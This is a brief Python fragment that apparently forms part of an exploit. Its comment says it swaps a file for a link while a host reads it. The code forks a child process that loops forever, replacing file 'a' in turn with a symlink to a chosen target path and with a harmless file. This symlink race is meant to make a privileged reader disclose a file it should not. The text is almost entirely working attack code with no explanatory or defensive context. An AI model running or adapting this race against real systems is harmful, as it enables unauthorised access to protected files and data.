# session: keeps swapping a file for a link while the host reads it. fetch: a
open("a", "w").write("harmless")
if os.fork() == 0:
    while True:
        os.symlink(goals["file"], "b")
        os.rename("b", "a")
        open("b", "w").write("harmless")
        os.rename("b", "a")
